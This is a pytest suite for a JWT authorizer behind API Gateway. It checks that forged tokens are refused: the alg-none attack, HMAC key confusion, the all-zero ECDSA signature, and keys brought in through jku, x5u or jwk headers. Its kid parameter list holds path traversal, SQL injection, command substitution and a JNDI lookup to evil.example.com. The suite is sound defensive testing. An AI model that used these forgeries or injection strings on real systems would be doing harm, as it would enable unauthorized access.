"""Ask the authorizer as API Gateway does. Each test is named for one way to get in without permission."""

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import cache
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from app import bearer
from tests.entry.authorizer import ARN, accepting, ask, forged
from tests.entry.tokens import AUDIENCE, ISSUER, Signer, auth_json, claims_of, issuer_entry

HOUR_S = 3600
NOW_S = claims_of()["iat"] + 60


@cache
def rsa() -> Signer:
    return Signer.make("RS256")


@cache
def elliptic() -> Signer:
    return Signer.make("ES256", "e1")


@pytest.fixture(autouse=True)
def issuer() -> Iterator[None]:
    """Set up one issuer with an RSA key "k1" and a P-256 key "e1"."""
    with accepting(auth_json(rsa(), elliptic())):
        yield


def test_the_right_token_is_let_in() -> None:
    """The right token is let in, so each refusal below has its own reason."""
    for signer in (rsa(), elliptic()):
        assert ask(signer.token()) == {"tenant": "acme", "scopes": "read write"}


# --- claims -------------------------------------------------------------------------------------------------------


def test_expired() -> None:
    assert ask(rsa().token(exp=NOW_S - HOUR_S)) is None


def test_expired_a_minute_ago() -> None:
    assert ask(rsa().token(exp=NOW_S - 60)) is None


def test_not_yet_valid() -> None:
    assert ask(rsa().token(nbf=NOW_S + HOUR_S)) is None


def test_issued_in_the_future() -> None:
    assert ask(rsa().token(iat=NOW_S + HOUR_S)) is None


@pytest.mark.parametrize(
    "audience", ["another service", ["x", "y"], "EFT", "eft ", "", [], None, 5, {"eft": 1}], ids=str
)
def test_wrong_audience(audience: object) -> None:
    assert ask(_signed(claims_of(aud=audience))) is None


@pytest.mark.parametrize(
    "name", ["https://evil.example.com", ISSUER + "/", ISSUER.upper(), ISSUER + "\x00", "", [ISSUER], None, 5], ids=repr
)
def test_wrong_issuer(name: object) -> None:
    assert ask(_signed(claims_of(iss=name))) is None


@pytest.mark.parametrize("claim", ["exp", "iss", "aud", "sub", "tenant"])
def test_missing_claim(claim: str) -> None:
    assert ask(rsa().token(without=(claim,))) is None


@pytest.mark.parametrize("tenant", ["", None, 7, True, ["acme"], {"acme": 1}, 1.5], ids=repr)
def test_tenant_of_the_wrong_type(tenant: object) -> None:
    assert ask(_signed(claims_of(tenant=tenant))) is None


# --- signatures ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["none", "None", "NONE", "nOnE", ""])
@pytest.mark.parametrize("kid", ["k1", "e1"])
def test_algorithm_none(algorithm: str, kid: str) -> None:
    assert ask(forged({"alg": algorithm, "kid": kid}, claims_of())) is None
    # The token carries the right signature of another token.
    signature = rsa().token().rpartition(".")[2]
    assert ask(forged({"alg": algorithm, "kid": kid}, claims_of()) + signature) is None


@pytest.mark.parametrize("algorithm", ["HS256", "HS384", "HS512"])
@pytest.mark.parametrize("secret", ["pem", "stripped", "jwk", "n", "der"])
def test_key_confusion(algorithm: str, secret: str) -> None:
    """The public key is no secret: an HMAC with it as the secret must prove nothing."""
    pem = rsa().public_pem
    secrets = {
        "pem": pem,
        "stripped": pem.strip(),
        "jwk": json.dumps(rsa().jwk).encode(),
        "n": rsa().jwk["n"].encode(),
        "der": base64.b64decode(b"".join(pem.splitlines()[1:-1])),
    }
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[algorithm]
    sign = _hmac(secrets[secret], digest)
    assert ask(forged({"alg": algorithm, "kid": "k1"}, claims_of(), sign)) is None


def test_an_elliptic_key_with_the_header_of_an_rsa_one() -> None:
    key = elliptic().key
    sign = _by("ES256", key)
    assert ask(forged({"alg": "ES256", "kid": "e1"}, claims_of(), sign)) is not None
    assert ask(forged({"alg": "RS256", "kid": "e1"}, claims_of(), sign)) is None
    assert ask(forged({"alg": "ES256", "kid": "k1"}, claims_of(), sign)) is None


def test_an_rsa_key_with_the_header_of_an_elliptic_one() -> None:
    assert ask(forged({"alg": "ES256", "kid": "k1"}, claims_of(), _by("RS256", rsa().key))) is None


def test_another_algorithm_of_the_same_key() -> None:
    """The key is published for RS256, and the token's own statement does not count."""
    for algorithm in ("PS256", "RS384", "RS512", "PS512"):
        assert ask(forged({"alg": algorithm, "kid": "k1"}, claims_of(), _by(algorithm, rsa().key))) is None


def test_wrong_key_under_the_right_kid() -> None:
    assert ask(Signer.make("RS256", "k1").token()) is None
    assert ask(Signer.make("ES256", "e1").token()) is None


def test_the_curve_that_was_not_agreed_on() -> None:
    """A key of another curve comes under the name of a known key."""
    signer = Signer(ec.generate_private_key(ec.SECP384R1()), "e1", "ES384")
    assert ask(signer.token()) is None


@pytest.mark.parametrize("kid", ["k2", "K1", "k1 ", " k1", "k1\x00", "", None, 1, True, ["k1"], {"k1": 1}], ids=repr)
def test_unknown_kid(kid: object) -> None:
    header = {"alg": "RS256", "kid": kid}
    assert ask(forged(header, claims_of(), _by("RS256", rsa().key))) is None


def test_no_kid() -> None:
    assert ask(rsa().token(kid=None)) is None


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/etc/passwd",
        "keys/../k1",
        "k1' OR '1'='1",
        "' UNION SELECT 'secret' --",
        "k1;id",
        "$(id)",
        "${jndi:ldap://evil.example.com/a}",
        "https://evil.example.com/k1",
        "k" * 5000,
        "\ud800",
        "__class__",
    ],
    ids=lambda kid: kid[:20].encode("ascii", "replace").decode(),
)
def test_a_kid_of_nonsense(kid: str) -> None:
    """The kid is only looked up among known names. It is never used as a path, a query or an address."""
    assert ask(forged({"alg": "RS256", "kid": kid}, claims_of(), _by("RS256", rsa().key))) is None
    # The secret is an empty key, as if a file without content had been found by that name.
    assert ask(forged({"alg": "HS256", "kid": kid}, claims_of(), _hmac(b"", hashlib.sha256))) is None


@pytest.mark.parametrize("where", ["jwk", "jku", "x5u", "x5c"])
def test_a_key_that_the_token_brings_along(where: str) -> None:
    """The token brings its key under a kid that is known, and under its own kid."""
    mine = Signer.make("RS256", "mine")
    brought = {"jwk": mine.jwk, "x5c": ["MIIB"]}.get(where, f"https://evil.example.com/{where}")
    for kid in ("k1", "mine"):
        header = {"alg": "RS256", "kid": kid, where: brought}
        assert ask(forged(header, claims_of(), _by("RS256", mine.key))) is None


def test_headers_with_a_key_change_nothing_about_a_right_token() -> None:
    mine = Signer.make("RS256")
    header = {"alg": "RS256", "kid": "k1", "jwk": mine.jwk, "jku": "https://evil.example.com", "x5u": "https://e.com"}
    assert ask(forged(header, claims_of(), _by("RS256", rsa().key))) is not None


def test_a_header_that_we_must_understand() -> None:
    """A token is invalid if its `crit` names a header that we do not understand (RFC 7515, section 4.1.11)."""
    header = {"alg": "RS256", "kid": "k1", "crit": ["new"], "new": True}
    assert ask(forged(header, claims_of(), _by("RS256", rsa().key))) is None


def test_changed_after_it_was_signed() -> None:
    head, _, signature = rsa().token().split(".")
    payload = _b64(json.dumps(claims_of(tenant="other")).encode())
    assert ask(f"{head}.{payload}.{signature}") is None


def test_an_all_zero_elliptic_signature() -> None:
    """A library that does not check for r = s = 0 accepts this signature for everything (CVE-2022-21449)."""
    assert ask(forged({"alg": "ES256", "kid": "e1"}, claims_of(), lambda _: bytes(64))) is None


# --- several issuers ----------------------------------------------------------------------------------------------


@contextmanager
def _two_issuers(first_signer: Signer, second_signer: Signer) -> Iterator[None]:
    entries = [
        issuer_entry(first_signer),
        issuer_entry(second_signer, issuer="https://two.example.com", audience="eft-two"),
    ]
    with accepting(json.dumps({"issuers": entries})):
        yield


def test_two_issuers_with_the_same_kid() -> None:
    first_signer, second_signer = Signer.make("RS256"), Signer.make("RS256")
    theirs: dict[str, Any] = {"iss": "https://two.example.com", "aud": "eft-two"}
    with _two_issuers(first_signer, second_signer):
        assert ask(first_signer.token()) is not None
        assert ask(second_signer.token(**theirs)) is not None
        # Each issuer vouches for its own name only.
        assert ask(first_signer.token(**theirs)) is None
        assert ask(second_signer.token()) is None
        # Each issuer vouches for its own audience only.
        assert ask(first_signer.token(aud="eft-two")) is None
        assert ask(second_signer.token(iss="https://two.example.com", aud=AUDIENCE)) is None


def test_two_issuers_with_the_same_kid_and_different_algorithms() -> None:
    first_signer, second_signer = Signer.make("RS256"), Signer.make("ES256")
    with _two_issuers(first_signer, second_signer):
        assert ask(second_signer.token()) is None
        assert ask(first_signer.token(iss="https://two.example.com", aud="eft-two")) is None


# --- what API Gateway is told -------------------------------------------------------------------------------------


def test_a_refusal_says_nothing_about_why() -> None:
    answers = {
        json.dumps(bearer({"type": "TOKEN", "authorizationToken": f"Bearer {token}", "methodArn": ARN}, {}))
        for token in (
            rsa().token(exp=1),
            rsa().token(kid="k2"),
            Signer.make("RS256").token(),
            "x",
            rsa().token(aud="x"),
        )
    }
    assert len(answers) == 1


# --- tools --------------------------------------------------------------------------------------------------------


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _by(algorithm: str, key: Any) -> Callable[[bytes], bytes]:
    return lambda signed: jwt.get_algorithm_by_name(algorithm).sign(signed, key)


def _hmac(secret: bytes, digest: Any) -> Callable[[bytes], bytes]:
    return lambda signed: hmac.new(secret, signed, digest).digest()


def _signed(claims: dict[str, Any]) -> str:
    """Return a token with claims that PyJWT wouldn't sign."""
    return forged({"alg": "RS256", "kid": "k1"}, claims, _by("RS256", rsa().key))
